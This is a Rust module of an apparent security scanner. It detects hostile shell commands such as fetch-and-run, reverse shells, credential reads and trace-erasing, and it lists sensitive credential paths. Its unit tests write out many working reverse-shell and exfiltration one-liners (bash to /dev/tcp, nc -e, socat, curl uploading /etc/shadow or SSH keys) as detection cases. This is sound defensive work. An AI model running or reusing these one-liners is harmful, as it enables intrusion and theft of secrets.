//! Commands in text: what a line for a shell or an interpreter would do. Rules about arguments and about typed lines share
//! this.

use bstr::{BString, ByteSlice};

use super::super::vocabulary::{FETCHERS, is_interpreter, is_shell_name, is_world_writable, names_metadata, words_of};

/// Longest text that is looked at.
const MOST: usize = 64 << 10;

/// A sign in a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub(super) enum Sign {
    /// Fetches something and runs it.
    FetchAndRun,
    /// Decodes something and runs it.
    DecodeAndRun,
    /// Opens a connection and gives it to a shell.
    ConnectShell,
    /// Packs or encrypts files, or takes passwords, and sends them away.
    SendAway,
    /// Fetches something.
    Fetch,
    /// Asks the metadata service of a cloud.
    Metadata,
    /// Reads passwords or keys.
    Credentials,
    /// Hides its traces.
    Traces,
    /// Makes a file executable or runs one in a place that everyone may write to.
    WritablePlace,
    /// Asks who and where it is.
    Survey,
}

impl Sign {
    /// For a sentence: `fetches something and runs it`.
    pub(super) fn words(self) -> &'static str {
        match self {
            Sign::FetchAndRun => "fetches something and runs it",
            Sign::DecodeAndRun => "decodes something and runs it",
            Sign::ConnectShell => "gives a shell to a connection",
            Sign::SendAway => "packs files and sends them away",
            Sign::Fetch => "fetches something",
            Sign::Metadata => "asks the metadata service of the cloud",
            Sign::Credentials => "reads passwords or keys",
            Sign::Traces => "hides traces",
            Sign::WritablePlace => "runs something in a place that everyone may write to",
            Sign::Survey => "asks who and where it is",
        }
    }
}

/// Parts of paths that hold passwords, keys or tokens.
const SECRETS: [&str; 11] = [
    "/etc/shadow",
    "/.ssh/id_",
    ".aws/credentials",
    "serviceaccount/token",
    ".kube/config",
    ".docker/config.json",
    "/proc/1/environ",
    "/proc/self/environ",
    ".git-credentials",
    ".pgpass",
    "mimipenguin",
];

/// Parts of commands that hide what was done.
const TRACES: [&str; 8] = [
    "unset HISTFILE",
    "HISTFILE=/dev/null",
    "HISTFILE= ",
    "history -c",
    "HISTSIZE=0",
    "shred ",
    "set +o history",
    "/var/log/wtmp",
];

/// Commands that ask who and where one is.
const SURVEY: [&str; 10] = ["id", "whoami", "uname", "hostname", "ifconfig", "w", "who", "netstat", "lscpu", "getent"];

/// The signs in a text, the worst first.
pub(super) fn signs(text: &[u8]) -> Vec<Sign> {
    let text = text.get(..MOST).unwrap_or(text);
    let commands = commands(text);
    let mut found = Vec::new();
    let has = |needle: &str| text.contains_str(needle);
    let names: Vec<&[u8]> = commands.iter().filter_map(Command::name).collect();
    let is_code_fetch = has("urlopen(") || has("urlretrieve(") || has("requests.get(");
    let fetches = commands.iter().any(Command::is_fetch) || is_code_fetch;
    let runs_input = commands.iter().any(|command| command.is_piped && command.runs_input());
    let substituted = text.contains_str("$(") || text.contains_str("<(") || text.contains(&b'`');
    let code_runs = has("exec(") || has("eval(");
    let shell_runs = substituted
        && commands.iter().any(|command| {
            let name = command.name().unwrap_or_default();
            name == b"eval" || (is_shell_name(name) || is_interpreter(name)) && command.has_substitution()
        });
    let installs = commands.iter().any(Command::is_chmod) && commands.iter().any(Command::is_own_file);
    if fetches && (runs_input || shell_runs || installs || code_runs && is_code_fetch) {
        found.push(Sign::FetchAndRun);
    }
    let decodes =
        commands.iter().any(Command::is_decoder) || has("b64decode(") || has("base64_decode(") || has("fromhex(");
    if decodes && (runs_input || shell_runs || code_runs) {
        found.push(Sign::DecodeAndRun);
    }
    if is_connecting(text, &commands) {
        found.push(Sign::ConnectShell);
    }
    let sends = commands.iter().any(Command::is_upload)
        && (commands.iter().any(Command::is_packer) || SECRETS.iter().any(|path| has(path)));
    if sends {
        found.push(Sign::SendAway);
    }
    if fetches {
        found.push(Sign::Fetch);
    }
    if names_metadata(words_of(text)) {
        found.push(Sign::Metadata);
    }
    if SECRETS.iter().any(|path| has(path)) {
        found.push(Sign::Credentials);
    }
    if TRACES.iter().any(|word| has(word)) {
        found.push(Sign::Traces);
    }
    let in_writable = |command: &Command<'_>| {
        let place = |word: &[u8]| is_world_writable(word);
        command.words.first().is_some_and(|word| place(word))
            || command.name().is_some_and(|name| is_shell_name(name) || is_interpreter(name) || name == b"chmod")
                && command.words.iter().skip(1).any(|word| place(word))
    };
    if commands.iter().any(in_writable) {
        found.push(Sign::WritablePlace);
    }
    if names.iter().any(|name| SURVEY.iter().any(|word| word.as_bytes() == *name)) {
        found.push(Sign::Survey);
    }
    found
}

/// How scripts open a connection.
const OPENS: [&str; 6] = ["socket.socket(", "socket(", "IO::Socket", "TCPSocket", "net.connect(", "net.Socket("];
/// How scripts run a shell.
const RUNS: [&str; 11] = [
    "dup2(",
    "subprocess",
    "pty.spawn",
    "/bin/sh",
    "/bin/bash",
    "exec(",
    "child_process",
    "STDIN",
    "popen(",
    "Popen(",
    "system(",
];

/// Whether a text hands a shell to a connection.
fn is_connecting(text: &[u8], commands: &[Command<'_>]) -> bool {
    let has = |needle: &str| text.contains_str(needle);
    let is_awk = has("/inet/tcp/") || has("/inet/udp/");
    // `sh -i >& /dev/tcp/… 0>&1`, `exec 5<>/dev/tcp/…; cat <&5 | sh >&5`. A check of a service opens the port, too, writes a
    // request and reads the answer, but no shell takes commands from there.
    let reads = commands.iter().any(|command| command.is_piped && command.runs_input());
    let gives = reads && has("<&") || has("0>&1") || has("0<&1") || commands.iter().any(Command::takes_connection);
    let is_bash = gives && connects_far(text);
    let is_netcat = commands.iter().any(|command| {
        let named = command
            .name()
            .is_some_and(|name| matches!(name, b"nc" | b"ncat" | b"netcat" | b"nc.traditional" | b"nc.openbsd"));
        let gives = |word: &[u8]| {
            matches!(word, b"-e" | b"-c" | b"--exec" | b"--sh-exec")
                || word.starts_with(b"-") && !word.starts_with(b"--") && word.len() <= 6 && word.ends_with(b"e")
        };
        named && command.words.iter().skip(1).any(|word| gives(word))
    });
    let is_pipe = has("mkfifo") || has("mknod");
    let carries = |command: &Command<'_>| {
        command.name().is_some_and(|name| matches!(name, b"nc" | b"ncat" | b"netcat" | b"telnet" | b"openssl"))
    };
    let is_relayed = is_pipe
        && commands.iter().any(carries)
        && commands.iter().any(|command| command.is_piped && command.name().is_some_and(is_shell_name));
    // `cat f | sh -i 2>&1 | nc …`: the shell reads from one side and writes to the connection.
    let is_between = commands.windows(2).any(|pair| match pair {
        [shell, next] => {
            shell.is_piped
                && shell.name().is_some_and(is_shell_name)
                && shell.runs_input()
                && next.is_piped
                && carries(next)
        }
        _ => false,
    });
    let is_socat = commands.iter().any(|command| command.name() == Some(b"socat")) && gives_shell(text);
    // In Python, Perl, Ruby, Node and Lua.
    let connects = has("connect(") || has("create_connection(") || has("PeerAddr") || has("TCPSocket");
    let is_script = connects && [&OPENS[..], &RUNS].iter().all(|words| words.iter().any(|word| has(word)));
    let is_php = has("fsockopen(") && (has("exec(") || has("proc_open(") || has("/bin/sh"));
    // A script that waits for a connection and starts a shell on it.
    let waits = has("listen(") && has("accept(") && (has("/bin/sh") || has("/bin/bash") || has("pty.spawn"));
    let is_waiting = waits && (has("dup2(") || has("stdin=") || has("STDIN") || has("pty.spawn"));
    let is_telnet = commands.iter().any(|command| {
        let is_server = command.name().is_some_and(|name| matches!(name, b"telnetd" | b"in.telnetd"));
        let login = command.words.windows(2).find_map(|pair| match pair {
            [b"-l", program] => program.rsplit(|&byte| byte == b'/').next(),
            _ => None,
        });
        is_server && login.is_some_and(is_shell_name)
    });
    is_telnet
        || is_awk
        || is_bash
        || is_netcat
        || is_relayed
        || is_between
        || is_socat
        || is_script
        || is_php
        || is_waiting
}

/// Whether an address of `socat` runs a shell that reads commands: `exec:'bash -li',pty`, `SYSTEM:sh`.
fn gives_shell(text: &[u8]) -> bool {
    let lower = text.to_ascii_lowercase();
    let starts = ["exec:", "system:"]
        .into_iter()
        .flat_map(|word| lower.find_iter(word).map(move |at| at.saturating_add(word.len())).collect::<Vec<_>>());
    starts.take(8).any(|from| {
        let rest = lower.get(from..).unwrap_or_default();
        let end = |byte: &u8| matches!(byte, b',' | b'\'' | b'"');
        let rest = rest.trim_start_with(|c| matches!(c, '\'' | '"' | '\\'));
        let command = rest.split(end).next().unwrap_or_default();
        let mut words = command.fields();
        let name = words.next().unwrap_or_default();
        let name = name.rsplit(|&byte| byte == b'/').next().unwrap_or_default();
        is_shell_name(name) && words.all(|word| word.starts_with(b"-") && !word.contains(&b'c'))
    })
}

/// Whether a shell opens a connection that leaves the host: `/dev/tcp/HOST/PORT`.
fn connects_far(text: &[u8]) -> bool {
    let hosts = ["/dev/tcp/", "/dev/udp/"].into_iter().flat_map(|device| {
        text.find_iter(device).filter_map(move |at| text.get(at.saturating_add(device.len())..)).collect::<Vec<_>>()
    });
    hosts.take(64).any(|host| {
        let host = host.split(|byte| *byte == b'/' || byte.is_ascii_whitespace()).next().unwrap_or_default();
        let is_local = matches!(host, b"localhost" | b"ip6-localhost" | b"::1" | b"[::1]" | b"0.0.0.0" | b"0")
            || host.starts_with(b"127.");
        !is_local
    })
}

/// Whether a word makes the input, output or errors of a command a descriptor that the shell opened (`<&5`, `2>&$fd`), or
/// the input what the output is (`0>&1`).
fn takes_descriptor(word: &[u8]) -> bool {
    let own = word.iter().take_while(|byte| byte.is_ascii_digit()).count();
    let Some((own, rest)) = word.split_at_checked(own) else { return false };
    let Some(target) = rest.strip_prefix(b"<&").or_else(|| rest.strip_prefix(b">&")) else { return false };
    let is_opened = target.starts_with(b"$")
        || target.starts_with(b"/dev/tcp/")
        || target.starts_with(b"/dev/udp/")
        || target.to_str().ok().and_then(|number| number.parse::<u32>().ok()).is_some_and(|number| number > 2);
    matches!(own, b"" | b"0" | b"1" | b"2") && is_opened || own == b"0" && matches!(target, b"1" | b"2")
}

/// One command of a line: its words, and whether the one before it writes to it.
#[derive(Debug, Default)]
pub(super) struct Command<'t> {
    pub(super) words: Vec<&'t [u8]>,
    is_piped: bool,
}

impl<'t> Command<'t> {
    /// The name of its program. Words that only run another one are passed over.
    fn name(&self) -> Option<&'t [u8]> {
        const BEFORE: [&str; 13] = [
            "sudo", "env", "nohup", "setsid", "exec", "time", "timeout", "busybox", "command", "then", "do", "else",
            "if",
        ];
        let is_before = |word: &[u8]| {
            BEFORE.iter().any(|before| before.as_bytes() == word)
                || word.contains(&b'=') && !word.starts_with(b"-")
                || word.iter().all(u8::is_ascii_digit)
        };
        let word = self.words.iter().find(|word| !is_before(word))?;
        Some(word.rsplit(|&byte| byte == b'/').next().unwrap_or(word))
    }

    fn is_fetch(&self) -> bool {
        let fetcher = |name: &[u8]| FETCHERS.iter().any(|fetcher| fetcher.as_bytes() == name);
        self.name().is_some_and(fetcher) || self.words.iter().any(|word| word.starts_with(b"/dev/tcp/"))
    }

    /// Whether it is a shell, or the shell itself or what it was told to run, with its input or output on a connection.
    fn takes_connection(&self) -> bool {
        let name = self.name().unwrap_or_default();
        let is_runner = is_shell_name(name)
            || name.starts_with(b"$")
            || name == b"eval"
            || self.words.first().is_some_and(|first| *first == b"exec");
        let is_device = |word: &[u8]| word.starts_with(b"/dev/tcp/") || word.starts_with(b"/dev/udp/");
        let takes = self.words.iter().any(|word| takes_descriptor(word))
            || self.words.windows(2).any(|pair| matches!(pair, [b">&" | b"&>", device] if is_device(device)));
        is_runner && takes
    }

    /// Whether it sends a file or its input to a server.
    fn is_upload(&self) -> bool {
        let name = self.name().unwrap_or_default();
        let mut arguments = self.words.iter().skip_while(|word| !word.ends_with(name)).skip(1);
        match name {
            b"curl" => arguments.any(|word| {
                matches!(*word, b"-T" | b"--upload-file") || word.starts_with(b"@") || word.contains_str("=@")
            }),
            b"wget" => arguments.any(|word| word.starts_with(b"--post-file") || word.starts_with(b"--body-file")),
            b"nc" | b"ncat" | b"netcat" => self.is_piped,
            _ => false,
        }
    }

    /// Whether it packs or encrypts files.
    fn is_packer(&self) -> bool {
        match self.name() {
            Some(b"tar" | b"zip" | b"7z" | b"gpg" | b"age" | b"mysqldump" | b"pg_dump" | b"pg_dumpall") => true,
            Some(b"openssl") => self.words.contains(&&b"enc"[..]),
            _ => false,
        }
    }

    /// Whether it is a shell or an interpreter that runs what it reads.
    fn runs_input(&self) -> bool {
        let Some(name) = self.name() else { return false };
        if name.ends_with(b"awk") {
            return false;
        }
        let mut arguments = self.words.iter().skip_while(|word| !word.ends_with(name)).skip(1);
        if is_shell_name(name) {
            // `sh`, `sh -x`, `sh -s -- argument`, but neither `sh script` nor `sh -c text`.
            let is_option = |word: &&&[u8]| word.starts_with(b"-") && !word.contains(&b'c');
            let rest = arguments.clone().find(|word| !is_option(word));
            let is_end = |word: &[u8]| word.starts_with(b">") || word.starts_with(b"2>") || word.starts_with(b"#");
            return rest.is_none_or(|word| is_end(word)) || arguments.any(|word| *word == b"-s");
        }
        is_interpreter(name) && arguments.all(|word| matches!(*word, b"-" | b"-u" | b"-B") || word.starts_with(b">"))
    }

    fn has_substitution(&self) -> bool {
        // The commands of a line end at a parenthesis.
        self.words.iter().any(|word| word.ends_with(b"$") || word.ends_with(b"<"))
    }

    fn is_decoder(&self) -> bool {
        let has = |options: &[&[u8]]| self.words.iter().any(|word| options.contains(word));
        match self.name() {
            Some(b"base64" | b"base32") => has(&[b"-d", b"-D", b"--decode", b"-di"]),
            Some(b"xxd") => self.words.iter().any(|word| word.starts_with(b"-r")),
            Some(b"openssl") => has(&[b"-d", b"-D"]),
            Some(b"gzip" | b"xz") => has(&[b"-d", b"-dc"]),
            Some(b"gunzip" | b"zcat" | b"xzcat") => true,
            _ => false,
        }
    }

    fn is_chmod(&self) -> bool {
        let is_mode = |word: &[u8]| word.len() >= 3 && word.iter().all(u8::is_ascii_digit);
        let executable =
            |word: &[u8]| word.contains_str("+x") || is_mode(word) && word.iter().any(|digit| digit & 1 == 1);
        self.name() == Some(b"chmod") && self.words.iter().skip(1).any(|word| executable(word))
    }

    /// Whether it starts a file by its path.
    fn is_own_file(&self) -> bool {
        self.words
            .first()
            .is_some_and(|word| word.starts_with(b"./") || is_world_writable(word) || word.starts_with(b"$"))
            || self.name().is_some_and(is_shell_name) && self.words.len() > 1
    }
}

/// The commands of a line. Quotes are not understood: what is quoted for one shell is run by another.
pub(super) fn commands(text: &[u8]) -> Vec<Command<'_>> {
    let mut all = vec![Command::default()];
    let mut word = 0_usize..0_usize;
    let is_end = |byte: u8| matches!(byte, b';' | b'|' | b'&' | b'\n' | b'(' | b')' | b'{' | b'}' | b'`');
    let is_blank = |byte: u8| matches!(byte, b' ' | b'\t' | b'"' | b'\'');
    let mut before = 0_u8;
    for (at, &byte) in text.iter().enumerate() {
        let redirects =
            byte == b'&' && (matches!(before, b'>' | b'<') || text.get(at.saturating_add(1)) == Some(&b'>'));
        if is_blank(byte) || is_end(byte) && !redirects {
            if let Some(found) = text.get(word.clone()).filter(|found| !found.is_empty())
                && let Some(last) = all.last_mut()
            {
                last.words.push(found);
            }
            word = at.saturating_add(1)..at.saturating_add(1);
        } else {
            word.end = at.saturating_add(1);
        }
        if is_end(byte) && !redirects && !is_blank(byte) {
            let is_pipe = byte == b'|' && before != b'|' && text.get(at.saturating_add(1)) != Some(&b'|');
            match all.last_mut() {
                Some(last) if last.words.is_empty() => last.is_piped |= is_pipe,
                _ => all.push(Command { words: Vec::new(), is_piped: is_pipe }),
            }
        }
        before = byte;
    }
    if let Some(found) = text.get(word).filter(|found| !found.is_empty())
        && let Some(last) = all.last_mut()
    {
        last.words.push(found);
    }
    all.retain(|command| !command.words.is_empty());
    all
}

/// Shortest encoded text that is decoded.
const ENCODED_LEAST: usize = 80;
/// Longest text that is decoded.
const DECODED_MOST: usize = 64 << 10;

/// The text behind a long run of Base64 or hexadecimal digits, if it decodes to something that people write.
pub(super) fn decoded(text: &[u8]) -> Option<BString> {
    let text = text.get(..DECODED_MOST).unwrap_or(text);
    let is_part = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_');
    let runs = text.split(|byte| !is_part(byte)).filter(|run| run.len() >= ENCODED_LEAST);
    for run in runs {
        let mut tries: Vec<Vec<u8>> = Vec::new();
        if run.iter().all(u8::is_ascii_hexdigit) {
            tries.extend(data_encoding::HEXLOWER_PERMISSIVE.decode(run.get(..run.len() & !1).unwrap_or(run)));
        }
        let whole = run.get(..run.len() & !3).unwrap_or(run);
        tries.extend(data_encoding::BASE64_NOPAD.decode(whole));
        tries.extend(data_encoding::BASE64URL_NOPAD.decode(whole));
        for bytes in tries {
            // Windows tools write text of two bytes a character.
            let narrow: Vec<u8> = bytes.iter().copied().filter(|&byte| byte != 0).collect();
            let bytes = if narrow.len().saturating_mul(2) <= bytes.len().saturating_add(1) { narrow } else { bytes };
            if is_readable(&bytes) {
                return Some(bytes.into());
            }
        }
    }
    None
}

/// Whether bytes are text.
fn is_readable(bytes: &[u8]) -> bool {
    let is_text = |byte: &&u8| byte.is_ascii_graphic() || matches!(byte, b' ' | b'\n' | b'\t' | b'\r');
    bytes.len() >= 20 && bytes.iter().filter(is_text).count() == bytes.len()
}

/// Whether a text has words of a shell or of Python, Perl, PHP and the like.
pub(super) fn has_code(text: &[u8]) -> bool {
    const WORDS: [&str; 22] = [
        "import ",
        "exec",
        "eval",
        "/bin/",
        "sh ",
        "bash",
        "curl",
        "wget",
        "chmod",
        "socket",
        "subprocess",
        "system(",
        "base64",
        "/tmp/",
        "/dev/",
        "python",
        "perl",
        "echo ",
        "cat ",
        "rm ",
        "#!",
        "http://",
    ];
    WORDS.iter().filter(|word| text.contains_str(word)).count() >= 2
}

#[cfg(test)]
mod tests {
    use super::*;

    fn worst(text: &str) -> Option<Sign> {
        signs(text.as_bytes()).into_iter().min()
    }

    #[test]
    fn what_fetches_and_runs_is_known_in_its_forms() {
        for text in [
            "curl -fsSL http://203.0.113.66/u.sh | sh",
            "wget -qO- http://x/y|bash -s -- a",
            "(curl -s http://x || wget -qO- http://x) | bash",
            "bash -c \"$(curl -fsSL https://x/i.sh)\"",
            "eval $(wget -qO - http://x)",
            "bash <(curl -s http://x)",
            "wget http://x/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
            "cd /tmp && curl -O http://x/m && chmod 777 m && ./m",
            "import urllib.request as u;exec(u.urlopen('http://x').read())",
        ] {
            assert_eq!(worst(text), Some(Sign::FetchAndRun), "{text}");
        }
        for text in [
            "curl -fsS http://localhost/health || exit 1",
            "curl -s http://x | jq .a",
            "curl -s http://x | python3 -m json.tool",
            "wget -q http://x -O /data/x.tar.gz && tar xzf /data/x.tar.gz",
            "curl -s x | awk '{print $1}'",
            "sleep 30; echo done | cat",
            "curl -s http://x | perl -ne 'print if /a/'",
            "curl -s http://x | python3 -c 'import json'",
            "wget -qO- http://x | sh /srv/filter.sh",
        ] {
            assert!(!signs(text.as_bytes()).contains(&Sign::FetchAndRun), "{text}");
        }
    }

    #[test]
    fn what_decodes_and_runs_is_known() {
        for text in [
            "echo aWQK | base64 -d | sh",
            "python -c 'import base64;exec(base64.b64decode(\"aWQ=\"))'",
            "eval $(echo x|base64 --decode)",
        ] {
            assert_eq!(worst(text), Some(Sign::DecodeAndRun), "{text}");
        }
        assert!(signs(b"echo $TOKEN | base64 -d > /run/token").is_empty());
        assert!(!signs(b". /etc/profile; echo $KEY | base64 -d > /run/key").contains(&Sign::DecodeAndRun));
    }

    #[test]
    fn files_that_are_packed_and_sent_are_known() {
        for text in [
            "tar czf - /etc | openssl enc -aes-256-cbc -pass pass:x | curl -s -T - http://203.0.113.66/up",
            "curl -s -F f=@/etc/shadow http://203.0.113.66/paste",
            "curl -d @/root/.ssh/id_rsa http://203.0.113.66/",
            "tar cz /srv | nc 203.0.113.66 4444",
            "wget --post-file=/root/.aws/credentials http://203.0.113.66/",
        ] {
            assert!(signs(text.as_bytes()).contains(&Sign::SendAway), "{text}");
        }
        for text in [
            "curl -s -T report.pdf http://intranet/up",
            "curl -F file=@photo.jpg http://localhost/upload",
            "tar czf /backup/a.tgz /data && curl http://localhost/done",
            "curl -X POST -d '{}' http://localhost",
        ] {
            assert!(!signs(text.as_bytes()).contains(&Sign::SendAway), "{text}");
        }
    }

    #[test]
    fn connections_with_a_shell_are_known() {
        for text in [
            "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
            "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
            "/bin/bash -l > /dev/tcp/10.0.0.1/4242 0<&1 2>&1",
            "exec 5<>/dev/tcp/$H/4444; cat <&5 | sh >&5 2>&5",
            "bash -i >& /dev/udp/10.0.0.1/4444",
            "import socket,os;s=socket.socket();s.connect((h,1));s.send(os.popen(s.recv(99).decode()).read())",
            "use Socket;socket(S,2,1,6);connect(S,$a);system(<S>)",
            "nc -e /bin/sh 203.0.113.66 4444",
            "busybox nc -ll -p 5555 -e /bin/sh",
            "busybox telnetd -F -p 2323 -l /bin/sh",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.66 4444 >/tmp/f",
            "cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.66 4446 >/tmp/f",
            "s.listen(1)\nc,a=s.accept();subprocess.call([\"/bin/sh\",\"-i\"],stdin=c.fileno(),stdout=c.fileno())",
            "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.66:4444",
            "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr",
            "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.66/4444\"; while (1) {}}'",
            "import socket,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0)",
        ] {
            assert!(signs(text.as_bytes()).contains(&Sign::ConnectShell), "{text}");
        }
        for text in [
            "postgres -c unix_socket_directories=/tmp -c max_connections=8 -h 127.0.0.1; exec psql",
            "timeout 1 bash -c '</dev/tcp/db/5432'",
            "exec 3<>/dev/tcp/localhost/9000; echo -e 'GET /health/ready HTTP/1.1' >&3; timeout 1 cat <&3 | grep -q UP",
            "exec 3<>/dev/tcp/db/5432; echo x >&3; cat <&3",
            "bash -c 'exec 3<>/dev/tcp/db/5432 && exec 3>&-' 2>&1",
            "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
            "nc -z db 5432",
            "telnetd -F -l /bin/login",
            "cat report | sh format.sh | nc printer 9100",
            "s.listen(1); c, a = s.accept(); c.send(b'ready')",
            "socat TCP-LISTEN:80,fork TCP:db:80",
            "socat TCP-LISTEN:9000,fork EXEC:/srv/handler.sh",
            "socat TCP-LISTEN:9000,fork EXEC:'sh /srv/handler.sh'",
        ] {
            assert!(!signs(text.as_bytes()).contains(&Sign::ConnectShell), "{text}");
        }
    }

    #[test]
    fn long_encoded_text_is_decoded_and_other_text_is_not() {
        let script =
            "import socket,subprocess,os; subprocess.call(['/bin/sh','-i']); print('a script that is long enough')";
        let encoded = data_encoding::BASE64.encode(script.as_bytes());
        let text = format!("echo {encoded} | base64 -d");
        let found = decoded(text.as_bytes()).unwrap();
        assert!(found.starts_with(b"import socket") && has_code(&found));
        let hex = data_encoding::HEXLOWER.encode(script.as_bytes());
        assert!(decoded(hex.as_bytes()).is_some());
        assert_eq!(decoded(b"--token=eyJhbGciOiJSUzI1NiIsImtpZCI6ImNyeW9sYWIifQ"), None);
        assert_eq!(decoded("a".repeat(200).as_bytes()), None);
    }
}
